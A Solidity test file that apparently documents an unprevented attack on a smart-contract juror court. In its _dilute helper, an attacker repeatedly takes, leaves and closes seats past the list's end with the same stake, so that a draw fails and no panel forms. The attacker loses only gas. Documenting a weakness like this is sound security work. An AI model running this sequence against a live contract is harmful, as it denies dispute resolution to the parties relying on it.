// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ISlashingCourt} from "../../contracts/interfaces/ISlashingCourt.sol";
import {Case} from "../../contracts/types/Case.sol";
import {Stage} from "../../contracts/types/Court.sol";
import {JobTerms} from "../../contracts/types/Job.sol";
import {Profile} from "../../contracts/types/Provider.sol";
import {CourtBooks} from "../utils/CourtBooks.sol";
import {vm} from "../utils/Vm.sol";

/// @notice The attack: take places behind the list's end, leave them and close them, again and again with the same stake,
/// until a draw finds nothing but free places.
/// Peer: none known.
contract DilutedListTest is CourtBooks {
    uint256 private constant AT_A_TIME = 100;
    uint256 private constant ROUNDS = 15;

    function setUp() public {
        setUpCourtJobs(JURORS);
    }

    /// @dev Not prevented: twelve whole seats are there, but a draw looks at sixteen places for each seat that it needs,
    /// and gives up. The attacker has all of its stake back; what it paid is gas.
    function test_ADrawFindsFreePlaces() public {
        _dilute();
        assertEq(court.seatCountOf(address(escrow)), JURORS + AT_A_TIME * ROUNDS, "the list's length");
        (, , uint128 locked) = staking.authorizationOf(stranger, address(court));
        assertEq(locked, 0, "none of its stake is locked");
        assertEq(staking.committedOf(stranger), AT_A_TIME * SEAT_COLLATERAL, "all of its stake is there");

        JobTerms memory terms = submittedCourtJob();
        Books memory expected = booksNow();
        Case memory opened = openCaseOf(terms);
        passSeed();
        bytes memory input = abi.encodeCall(ISlashingCourt.draw, (address(escrow), opened));
        bytes4 error_ = ISlashingCourt.SlashingCourt_TooFewSeats.selector;
        requireRefused(stranger, address(court), input, error_, "no panel");
        passStage(opened, Stage.DRAWING);
        court.finish(address(escrow), opened);
        split(terms);
        expectSplit(expected, terms);
        requireBooks(expected);
    }

    function _dilute() private {
        uint128 stake = uint128(AT_A_TIME) * SEAT_COLLATERAL;
        stakeToken.mint(address(this), stake);
        stakeToken.approve(address(staking), stake);
        vm.prank(stranger);
        registry.register(Profile({payout: stranger, encryptionKey: "key", endpoint: ""}));
        staking.deposit(stranger, stake);
        vm.startPrank(stranger);
        staking.authorize(stranger, address(court), stake, SEAT_COLLATERAL);
        for (uint256 round; round < ROUNDS; ++round) {
            uint256 first = court.seatCountOf(address(escrow));
            for (uint256 i; i < AT_A_TIME; ++i) {
                court.takeSeat(address(escrow), stranger, first + i);
                court.leaveSeat(address(escrow), first + i);
            }
            vm.warp(block.timestamp + court.exitSeconds());
            for (uint256 i; i < AT_A_TIME; ++i) court.closeSeat(address(escrow), first + i);
        }
        vm.stopPrank();
    }
}
